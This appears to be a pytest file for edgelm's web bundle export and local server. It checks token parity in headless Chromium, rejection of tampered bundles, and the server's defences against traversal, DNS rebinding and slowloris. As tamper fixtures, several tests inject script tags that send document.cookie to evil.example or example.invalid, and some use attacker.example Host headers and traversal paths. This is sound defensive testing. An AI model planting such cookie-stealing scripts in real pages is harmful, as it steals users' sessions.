"""`edgelm bundle --target web` in a real browser: the shipped tiny-rope and tiny-nope, exported to ONNX
int4 and bundled, generate in headless Chromium (onnxruntime-web) the same greedy tokens as `edgelm
generate` on the same ONNX folder — on the WASM backend always, on WebGPU where the browser gets an
adapter (SwiftShader here, no GPU); a run without one is skipped, with the browser's reason.

The browser's kernels add in another order than onnxruntime's native CPU ones (WASM's 128-bit SIMD
against AVX2/AVX-512; WebGPU's shaders), so a near-tie can flip: the tokens must equal edgelm's up to the
first position where edgelm's two best logits are within NEAR_TIE, and there the page must pick edgelm's
runner-up (seen on both backends: tiny-nope's 12th token, a gap of 0.0013); the test prints how many
tokens were equal."""

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from edgelm.constants import WEB_RUNTIME_FILES

from .browser import CHROMIUM, run_page
from .test_bad_input import assert_user_error

SHIPPED = Path(__file__).resolve().parents[1] / "examples" / "models"
CALIBRATION_TEXT = Path(__file__).resolve().parents[1] / "examples" / "data" / "emma.txt"
PROMPT, NEW_TOKENS = "It is a truth universally acknowledged", 16
NEAR_TIE = 0.01  # logits
WEB_RUNTIME = Path(__file__).resolve().parents[1] / "web" / "node_modules"


def _missing() -> str | None:
    try:
        import playwright  # noqa: F401
    except ImportError:
        return "playwright is not installed (pip install -e '.[test]')"
    if not CHROMIUM:
        return "no chromium on PATH (`make test` installs Debian's chromium when run as root)"
    if not (WEB_RUNTIME / "onnxruntime-web" / "package.json").is_file():
        return "web/node_modules is missing (`make web-runtime`)"
    return None


needs_browser = pytest.mark.skipif(_missing() is not None, reason=str(_missing()))
needs_runtime = pytest.mark.skipif(not (WEB_RUNTIME / "onnxruntime-web" / "package.json").is_file(),
                                   reason="web/node_modules is missing (`make web-runtime`)")


@pytest.fixture(scope="module")
def web_bundles(tmp_path_factory):
    """name → (web bundle, prompt ids, edgelm's greedy tokens on the ONNX folder it was made from, and at
    each of them the gap between edgelm's best and second-best logit, and the second-best token)."""
    from edgelm.bundle import make_bundle
    from edgelm.export.onnx import export_onnx
    from edgelm.formats import open_artifact
    from edgelm.models import open_checkpoint
    from edgelm.runtime.generate import generate_from_ids

    made = {}
    root = tmp_path_factory.mktemp("web")

    def get(name):
        if name not in made:
            folder = export_onnx(open_checkpoint(SHIPPED / name), root / f"{name}-onnx", "int4").path
            with open_artifact(folder) as artifact:
                prompt_ids = artifact.tokenizer.encode(PROMPT)
                expected = [piece.token for piece in generate_from_ids(artifact.backend, artifact.tokenizer, prompt_ids, NEW_TOKENS)]
                artifact.backend.reset()
                logits = artifact.backend.forward(prompt_ids + expected)[len(prompt_ids) - 1:-1]  # row i predicts expected[i]
            order = logits.argsort(axis=-1)
            gaps = [float(row[o[-1]] - row[o[-2]]) for row, o in zip(logits, order)]
            made[name] = make_bundle(folder, root / f"{name}-web", target="web"), prompt_ids, expected, gaps, order[:, -2].tolist()
        return made[name]

    return get


@needs_browser
@pytest.mark.parametrize("backend", ["wasm", "webgpu"])
@pytest.mark.parametrize("name", ["tiny-rope", "tiny-nope"])
def test_browser_generates_edgelm_greedy_tokens(web_bundles, tmp_path, name, backend):
    bundle, prompt_ids, expected, gaps, runners_up = web_bundles(name)
    result = run_page(bundle, backend, PROMPT, NEW_TOKENS, screenshot=tmp_path / "page.png")
    assert "error" not in result, result
    if backend == "webgpu" and result["backend"] != "webgpu":
        pytest.skip(f"Chromium gave no WebGPU adapter: {result['reason']}")
    assert result["backend"] == backend, result
    assert result["prompt_ids"] == prompt_ids, "tokenizers.js encodes the prompt as edgelm does"
    assert result["tok_s"] > 0 and (tmp_path / "page.png").stat().st_size > 0
    assert result["load_ms"] > 0 and result["first_token_ms"] > 0
    if backend == "wasm":  # served by `edgelm serve`'s server: isolated, so onnxruntime-web's WASM gets every core
        assert result["cross_origin_isolated"] is True and result["threads"].endswith("threads (cross-origin isolated)"), result
        assert result["note"].startswith("int4 runs slowly on WASM")  # the bundles here are int4
    ids = result["ids"]
    same = next((i for i, (a, b) in enumerate(zip(ids, expected)) if a != b), len(expected))
    print(f"{name} on {backend} ({result['reason']}): {same} of {len(expected)} tokens equal edgelm's, {result['tok_s']:.1f} tok/s")
    if same < len(expected):
        assert gaps[same] < NEAR_TIE and ids[same] == runners_up[same], (same, ids, expected, gaps[same])
    else:
        assert len(ids) == len(expected)


@needs_browser
def test_web_bundle_verifies_and_runs_in_edgelm(run_cli, web_bundles):
    bundle, _, expected, _, _ = web_bundles("tiny-rope")
    manifest = json.loads((bundle / "edgelm.json").read_text())
    assert manifest["target"] == "web" and manifest["web_runtime"] == {"onnxruntime-web": "1.30.0", "@huggingface/tokenizers": "0.2.0"}
    code, out, err = run_cli("verify", bundle)
    assert code == 0 and "model.onnx loads" in out, err
    code, out, err = run_cli("generate", bundle, "--prompt", PROMPT, "--max-new-tokens", NEW_TOKENS, "--json")
    assert code == 0 and json.loads(out)["tokens"] == expected, err


@needs_runtime
@pytest.mark.parametrize("changed", ["index.html", "ort.webgpu.min.mjs", "web_runtime"])
def test_a_web_bundles_page_or_runtime_changed_inside_it_fails_verify(run_cli, web_bundles, tmp_path, changed):
    """Stranger 27: a `<script>` sending document.cookie away added to index.html, the manifest's sha256 made again, passed
    verify (which named neither page nor runtime) and `edgelm serve` served it. The page must be this edgelm's own and the
    runtime the pinned published files, whatever the manifest says."""
    import hashlib

    bundle = shutil.copytree(web_bundles("tiny-rope")[0], tmp_path / "bundle")
    code, out, err = run_cli("verify", bundle)
    assert code == 0 and "web page: edgelm" in out and "onnxruntime-web 1.30.0" in out, (out, err)
    manifest = json.loads((bundle / "edgelm.json").read_text())
    if changed == "web_runtime":
        manifest["web_runtime"]["onnxruntime-web"] = "1.31.0"
        expected = "the manifest states the web runtime"
    else:
        path = bundle / changed
        path.write_bytes(path.read_bytes().replace(b"</body>", b"<script>fetch('https://evil.example/?k='+document.cookie)</script></body>")
                         if changed == "index.html" else path.read_bytes() + b"\nfetch('https://evil.example/');\n")
        manifest["files"][changed] = {"sha256": hashlib.sha256(path.read_bytes()).hexdigest(), "bytes": path.stat().st_size}
        expected = "is not the page edgelm" if changed == "index.html" else "is not onnxruntime-web 1.30.0's published file"
    (bundle / "edgelm.json").write_text(json.dumps(manifest))
    code, out, err = run_cli("verify", bundle)
    assert code == 1 and expected in err, (code, out, err)


def test_web_bundle_bad_input(run_cli, preset_dir, tmp_path):
    from edgelm.export.gguf import export_gguf
    from edgelm.export.onnx import export_onnx
    from edgelm.models import open_checkpoint

    checkpoint = open_checkpoint(preset_dir("tiny-rope"))
    gguf = export_gguf(checkpoint, tmp_path / "m.gguf", "int4").path
    assert_user_error(run_cli("bundle", gguf, "--target", "web", "--out", tmp_path / "w"),
                      "the web bundle takes an ONNX export", "edgelm export MODEL_DIR --format onnx --quant int4")
    int8_cache = export_onnx(checkpoint, tmp_path / "kv8", "int4", kv_cache="int8", calibration_text=CALIBRATION_TEXT).path
    assert_user_error(run_cli("bundle", int8_cache, "--target", "web", "--out", tmp_path / "w"),
                      "keeps its KV cache in int8", "without --kv-cache int8")
    onnx = export_onnx(checkpoint, tmp_path / "onnx", "int4").path
    assert_user_error(run_cli("bundle", onnx, "--target", "tv", "--out", tmp_path / "w"), "unknown --target 'tv'")
    (tmp_path / "empty").mkdir()
    assert_user_error(run_cli("bundle", onnx, "--target", "web", "--web-runtime", tmp_path / "empty", "--out", tmp_path / "w"),
                      "runs on onnxruntime-web 1.30.0", "holds none", "make web-runtime")
    # a runtime whose package.json states the pinned version, with a file missing or another file in its place (a
    # stranger's finding: a traceback, or a bundle of placeholder files that verify called fine)
    fake = tmp_path / "fake"
    for package, (version, files) in WEB_RUNTIME_FILES.items():
        (fake / package).mkdir(parents=True)
        (fake / package / "package.json").write_text(json.dumps({"name": package, "version": version}))
    assert_user_error(run_cli("bundle", onnx, "--target", "web", "--web-runtime", fake, "--out", tmp_path / "w"),
                      "fake/onnxruntime-web/dist/ort.webgpu.min.mjs: dist/ort.webgpu.min.mjs not found", "is not an install of onnxruntime-web 1.30.0")
    for package, (_, files) in WEB_RUNTIME_FILES.items():
        for name in files:
            (fake / package / name).parent.mkdir(parents=True, exist_ok=True)
            (fake / package / name).write_text("// placeholder\n")
    assert_user_error(run_cli("bundle", onnx, "--target", "web", "--web-runtime", fake, "--out", tmp_path / "w"),
                      "not onnxruntime-web 1.30.0's dist/ort.webgpu.min.mjs (its sha256 differs from the published file's)")
    # a bundle inside the runtime's npm folder was written among its packages (stranger 42)
    assert_user_error(run_cli("bundle", onnx, "--target", "web", "--web-runtime", fake, "--out", fake / "evil"),
                      "the output is inside the web runtime", "write the bundle somewhere else")
    assert not (fake / "evil").exists()
    shutil.rmtree(fake)
    (tmp_path / "w").mkdir()
    assert_user_error(run_cli("bundle", onnx, "--target", "web", "--out", tmp_path / "w"), "already exists")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty", "kv8", "m.gguf", "onnx", "w"]


NODE = shutil.which("node")
PICK_BACKEND = """
import { pathToFileURL } from "node:url";
globalThis.self = globalThis;
const { pickBackend } = await import(pathToFileURL(process.argv[1]).href);
const results = [];
for (const [requested, gpu] of JSON.parse(process.argv[2])) {
  const adapter = gpu && gpu.adapter && { ...gpu.adapter, requestAdapterInfo: gpu.legacy_info && (async () => gpu.legacy_info) };
  Object.defineProperty(globalThis, "navigator", { value: gpu ? { gpu: { requestAdapter: async () => adapter || null } } : {}, configurable: true });
  results.push(await pickBackend(requested));
}
console.log(JSON.stringify(results));
"""


@pytest.mark.skipif(NODE is None, reason="no node on PATH")
def test_page_counts_a_software_webgpu_adapter_as_no_gpu(tmp_path):
    """The page's backend choice (edgelm-web.js pickBackend) under Node, with navigator.gpu faked as the
    adapters browsers report: SwiftShader (what headless Chromium gives without a GPU), a fallback adapter,
    a pre-127 Chrome that has only requestAdapterInfo(), and a real GPU; ?backend= forces either side."""
    for name in ("edgelm-web.js",):
        shutil.copy(Path(__file__).resolve().parents[1] / "edgelm" / "assets" / "web" / name, tmp_path / name)
    (tmp_path / "ort.webgpu.min.mjs").write_text("export const env = { wasm: {} };\n")  # the runtime is not needed to choose
    (tmp_path / "tokenizers.min.mjs").write_text("export class Tokenizer {}\n")
    swiftshader = {"info": {"vendor": "google", "architecture": "swiftshader", "description": "SwiftShader Device (Subzero)"}}
    nvidia = {"info": {"vendor": "nvidia", "architecture": "ampere"}}
    cases = [
        ["auto", {"adapter": swiftshader}], ["webgpu", {"adapter": swiftshader}], ["auto", {"adapter": nvidia}],
        ["auto", {"adapter": {"isFallbackAdapter": True, "info": {"vendor": "", "architecture": ""}}}],
        ["auto", {"adapter": {}, "legacy_info": {"vendor": "google", "architecture": "swiftshader"}}],
        ["auto", None], ["auto", {"adapter": None}], ["wasm", {"adapter": nvidia}],
    ]
    run = subprocess.run([NODE, "--input-type=module", "-e", PICK_BACKEND, str(tmp_path / "edgelm-web.js"), json.dumps(cases)],
                         capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    picked = json.loads(run.stdout)
    assert [p["backend"] for p in picked] == ["wasm", "webgpu", "webgpu", "wasm", "wasm", "wasm", "wasm", "wasm"], picked
    assert "software" in picked[0]["reason"] and "google swiftshader" in picked[0]["reason"] and "?backend=webgpu" in picked[0]["reason"]
    assert picked[1]["reason"] == "asked for webgpu: adapter google swiftshader"
    assert picked[2]["reason"] == "adapter nvidia ampere"
    page = (Path(__file__).resolve().parents[1] / "edgelm" / "assets" / "web" / "index.html").read_text()
    assert all(f'href="?backend={b}"' in page for b in ("auto", "webgpu", "wasm")) and 'params.get("backend")' in page


@needs_browser
def test_browser_auto_runs_wasm_on_a_software_adapter(web_bundles, tmp_path):
    bundle, prompt_ids, _, _, _ = web_bundles("tiny-rope")
    result = run_page(bundle, "auto", PROMPT, 4)
    assert "error" not in result, result
    if result["backend"] == "webgpu":
        pytest.skip(f"Chromium gave a hardware adapter: {result['reason']}")
    assert result["backend"] == "wasm" and result["prompt_ids"] == prompt_ids, result
    print(result["reason"])


@needs_browser
def test_page_says_why_wasm_has_one_thread_without_isolation(web_bundles):
    """Served as `python -m http.server` serves it (no COOP/COEP), the page still runs, on one thread, and says why."""
    bundle, _, expected, _, _ = web_bundles("tiny-rope")
    result = run_page(bundle, "wasm", PROMPT, 2, isolated=False)
    assert "error" not in result, result
    assert result["cross_origin_isolated"] is False and result["ids"] == expected[:2], result
    assert result["threads"].startswith("1 thread: this page is not cross-origin isolated") and "edgelm serve" in result["threads"]


def _get(url: str, headers: dict | None = None) -> tuple[int, dict, bytes]:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers or {}), timeout=30) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


def _raw_status(url: str, request: bytes) -> int:
    """The status code of a request sent as bytes, headers urllib would not send (two Host headers, none)."""
    import socket

    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=30) as client:
        client.sendall(request)
        return int(client.makefile("rb").readline().split()[1])


@needs_runtime
def test_serve_isolates_types_ranges_and_serves_only_the_bundle(web_bundles, tmp_path):
    from edgelm.web_serve import serving

    bundle = shutil.copytree(web_bundles("tiny-rope")[0], tmp_path / "bundle")
    (tmp_path / "secret.txt").write_text("outside")
    (bundle / "stray.txt").write_text("not in the manifest")
    wasm = next(p for p in bundle.iterdir() if p.suffix == ".wasm")
    with serving(bundle) as url:
        code, headers, body = _get(url + "/")
        assert code == 200 and b"edgelm-web.js" in body and headers["Content-Type"].startswith("text/html")
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin" and headers["Cross-Origin-Embedder-Policy"] == "require-corp"
        assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
        assert _get(f"{url}/{wasm.name}")[1]["Content-Type"] == "application/wasm"
        assert _get(f"{url}/ort.webgpu.min.mjs")[1]["Content-Type"].startswith("text/javascript")
        data = wasm.read_bytes()
        code, headers, body = _get(f"{url}/{wasm.name}", {"Range": "bytes=100-199"})
        assert code == 206 and body == data[100:200] and headers["Content-Range"] == f"bytes 100-199/{len(data)}"
        code, headers, body = _get(f"{url}/{wasm.name}", {"Range": "bytes=-10"})
        assert code == 206 and body == data[-10:]
        code, headers, _ = _get(f"{url}/{wasm.name}", {"Range": f"bytes={len(data)}-"})
        assert code == 416 and headers["Content-Range"] == f"bytes */{len(data)}"
        # ranges it cannot parse (past int()'s 4,300 digits was a traceback and a dropped connection) or whose
        # last byte precedes its first are ignored, as RFC 9110 says: the whole file
        for wanted in ("bytes=" + "9" * 5000 + "-", "bytes=5-2", "items=0-1"):
            code, headers, body = _get(f"{url}/{wasm.name}", {"Range": wanted})
            assert code == 200 and body == data, wanted[:20]
        # a last byte past the end, however long its number, is the end (RFC 9110 §14.1.2): stranger round 10 had a 200
        # for bytes=0-99999999999999999999 and a 206 for bytes=0-860
        for wanted in ("bytes=0-" + "9" * 20, "bytes=0-" + "9" * 5000, "bytes=-" + "9" * 5000):
            code, headers, body = _get(f"{url}/{wasm.name}", {"Range": wanted})
            assert code == 206 and body == data and headers["Content-Range"] == f"bytes 0-{len(data) - 1}/{len(data)}", wanted[:20]
        assert headers["X-Content-Type-Options"] == "nosniff"
        # bound to 127.0.0.1, it answers requests naming this machine only: a page whose name was made to resolve to
        # 127.0.0.1 (DNS rebinding) asks with its own name
        port = url.rsplit(":", 1)[1]
        for host in (f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}", "app.localhost"):
            assert _get(url + "/", {"Host": host})[0] == 200, host
        for host in (f"attacker.example:{port}", "attacker.example", f"127.0.0.1.attacker.example:{port}",
                     "127.0.0.1:80@attacker.example", "localhost:attacker", "a..localhost", "localhost:99999999"):
            assert _get(url + "/", {"Host": host})[0] == 403, host  # stranger round 11: the middle three had a 200
        # one Host header, as RFC 9112 §3.2 asks (none, or two whose first was local, had a 200); a request target in
        # absolute form names the server itself (§3.2.2: it was a 404)
        for request, code in ((b"GET /edgelm.json HTTP/1.1\r\n", 400),
                              (b"GET /edgelm.json HTTP/1.1\r\nHost: localhost\r\nHost: attacker.example\r\n", 400),
                              (f"GET {url}/edgelm.json HTTP/1.1\r\nHost: attacker.example\r\n".encode(), 200),
                              (b"GET http://attacker.example/edgelm.json HTTP/1.1\r\nHost: localhost\r\n", 403),
                              # stranger 27: a target urlsplit refuses was a traceback and a dropped connection; HTTP/1.0
                              # has no Host to send (a browser always sends one)
                              (b"GET http://[::1/edgelm.json HTTP/1.1\r\nHost: localhost\r\n", 400),
                              (b"GET /edgelm.json HTTP/1.0\r\n", 200)):
            assert _raw_status(url, request + b"Connection: close\r\n\r\n") == code, request
        # the long names made is_dir() raise ENAMETOOLONG: a traceback and a dropped connection (a stranger's finding)
        for path in ("stray.txt", "../secret.txt", "%2e%2e/secret.txt", "nothing.js", "index.html/", "a" * 300, "a/" * 3000):
            code, headers, body = _get(f"{url}/{path}")
            assert code == 404 and b"outside" not in body and headers["Cross-Origin-Embedder-Policy"] == "require-corp", path


@needs_runtime
@pytest.mark.parametrize("sent", [b"GET / HTTP/1.1\r\nHost: x\r\n", b"GET /\r\n", b""], ids=["half the headers", "no version", "nothing"])
def test_serve_closes_a_connection_that_stops_sending(web_bundles, monkeypatch, sent):
    """A stranger's slowloris finding: half a request (or `GET /` with no HTTP version, or nothing) held a server
    thread for ever; the connection is now closed after BundleHandler.timeout seconds without a byte."""
    import socket
    import time

    from edgelm import web_serve

    assert web_serve.BundleHandler.timeout and web_serve.BundleHandler.timeout <= 60  # socketserver's default None: no limit
    monkeypatch.setattr(web_serve.BundleHandler, "timeout", 1)  # the same limit, short for the test
    with web_serve.serving(web_bundles("tiny-rope")[0]) as url:
        host, port = url.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=30) as client:
            client.sendall(sent)
            started = time.monotonic()
            while client.recv(65536):  # `GET /` without a version is answered HTTP/0.9-style, then closed
                pass
            assert time.monotonic() - started < 20


@needs_runtime
def test_serve_command_prints_its_address_and_stops_on_ctrl_c(web_bundles, run_cli, tmp_path, preset_dir):
    bundle = web_bundles("tiny-rope")[0]
    child = subprocess.Popen([sys.executable, "-m", "edgelm", "serve", str(bundle), "--port", "0"], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True, env=os.environ)
    try:
        line = child.stdout.readline()
        assert "cross-origin isolated" in line, (line, child.stderr.read() if child.poll() is not None else "")
        url = line.split(" at ")[1].split()[0]
        assert _get(url)[1]["Cross-Origin-Opener-Policy"] == "same-origin"
    finally:
        child.send_signal(signal.SIGINT)
        _, err = child.communicate(timeout=60)
    assert child.returncode == 0 and "Traceback" not in err and "every interface" not in err, err
    # `--host ''` (an unset $HOST in a script) binds every interface: said, where the banner named 127.0.0.1 alone
    child = subprocess.Popen([sys.executable, "-m", "edgelm", "serve", str(bundle), "--port", "0", "--host", ""], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True, env=os.environ)
    try:
        assert "cross-origin isolated" in child.stdout.readline()
        assert "note: listening on every interface (0.0.0.0): other machines on the network can fetch the bundle" in child.stderr.readline()
    finally:
        child.send_signal(signal.SIGINT)
        child.communicate(timeout=60)
    assert_user_error(run_cli("serve", tmp_path), "no edgelm.json manifest", "edgelm bundle --target web")
    # the manifest is read as any artifact's file: a link out of the folder or a FIFO is refused, not opened
    (tmp_path / "outside.json").write_text(json.dumps({"target": "web", "files": {}}))
    for name, make in (("linked", lambda m: m.symlink_to(tmp_path / "outside.json")), ("fifo", os.mkfifo)):
        (tmp_path / name).mkdir()
        make(tmp_path / name / "edgelm.json")
        code, out, err = run_cli("serve", tmp_path / name, "--port", "0")
        assert code == 2 and len(err.strip().splitlines()) == 1 and ("outside the artifact's folder" in err or "not a regular file" in err), err
    from edgelm.bundle import make_bundle
    from edgelm.export.onnx import export_onnx
    from edgelm.models import open_checkpoint

    onnx = export_onnx(open_checkpoint(preset_dir("tiny-rope")), tmp_path / "onnx", "int4").path
    assert_user_error(run_cli("serve", make_bundle(onnx, tmp_path / "m")), "a mobile bundle, not a web page", "--target web")
    assert_user_error(run_cli("serve", onnx), "not a web bundle", "edgelm bundle ONNX_FOLDER --target web")
    code, out, err = run_cli("bundle", onnx, "--target", "web", "--out", tmp_path / "w")
    assert code == 0 and f"edgelm serve {tmp_path / 'w'}" in out, err
    assert "no int4 kernel" in err and "bundle an int8 export" in err  # the page says it too, on WASM
    # a page that is not edgelm's, listed in the manifest with its own sha256, is not served (stranger 44): verify's check
    forged = shutil.copytree(tmp_path / "w", tmp_path / "forged")
    page = forged / "index.html"
    page.write_text(page.read_text() + "<script>fetch('https://example.invalid/?' + document.cookie)</script>\n")
    manifest = json.loads((forged / "edgelm.json").read_text())
    manifest["files"]["index.html"] = {"sha256": hashlib.sha256(page.read_bytes()).hexdigest(), "bytes": page.stat().st_size}
    (forged / "edgelm.json").write_text(json.dumps(manifest))
    assert_user_error(run_cli("serve", forged, "--port", "0"), "index.html is not the page edgelm", "make the bundle again")
    # `--out w.zip` writes a zip without --zip: the note after it read w.zip/edgelm.json, exit 2 with the bundle written
    code, out, err = run_cli("bundle", onnx, "--target", "web", "--out", tmp_path / "w.zip")
    assert code == 0 and (tmp_path / "w.zip").is_file() and "Traceback" not in err and "error" not in err, err


# The 1.1B-shaped int4 bundle (~0.9 GB) in the browser: ~10 minutes on 2 cores (preset, export, page), so
# outside `make test`: `make test-web-real-size` runs it.
REAL_SIZE = os.environ.get("EDGELM_WEB_REAL_SIZE") == "1"


@needs_browser
@pytest.mark.skipif(not REAL_SIZE, reason="the 1.1B web bundle takes ~10 minutes: `make test-web-real-size` (EDGELM_WEB_REAL_SIZE=1)")
def test_real_size_int4_bundle_generates_edgelm_greedy_tokens(tmp_path, run_cli):
    from edgelm.formats import open_artifact
    from edgelm.runtime.generate import generate_from_ids

    new_tokens = 4
    model, onnx, web = tmp_path / "tl", tmp_path / "tl-onnx", tmp_path / "tl-web"
    for args in (("init", "tinyllama-1.1b", model), ("export", model, "--format", "onnx", "--quant", "int4", "--out", onnx),
                 ("bundle", onnx, "--target", "web", "--out", web)):
        code, _, err = run_cli(*args)
        assert code == 0, err
    with open_artifact(onnx) as artifact:
        prompt_ids = artifact.tokenizer.encode(PROMPT)
        expected = [piece.token for piece in generate_from_ids(artifact.backend, artifact.tokenizer, prompt_ids, new_tokens)]
        artifact.backend.reset()
        logits = artifact.backend.forward(prompt_ids + expected)[len(prompt_ids) - 1:-1]
    order = logits.argsort(axis=-1)
    gaps = [float(row[o[-1]] - row[o[-2]]) for row, o in zip(logits, order)]
    result = run_page(web, "wasm", PROMPT, new_tokens, timeout_s=900)
    assert "error" not in result and result["cross_origin_isolated"], result
    assert result["prompt_ids"] == prompt_ids
    ids = result["ids"]
    same = next((i for i, (a, b) in enumerate(zip(ids, expected)) if a != b), len(expected))
    print(f"1.1B int4 on wasm ({result['threads']}): {same} of {len(expected)} tokens equal edgelm's; loaded in "
          f"{result['load_ms'] / 1000:.1f} s, first token {result['first_token_ms'] / 1000:.1f} s, {result['tok_s']:.3f} tok/s")
    if same < len(expected):
        assert gaps[same] < NEAR_TIE and ids[same] == order[same, -2], (same, ids, expected, gaps[same])
    else:
        assert len(ids) == len(expected)
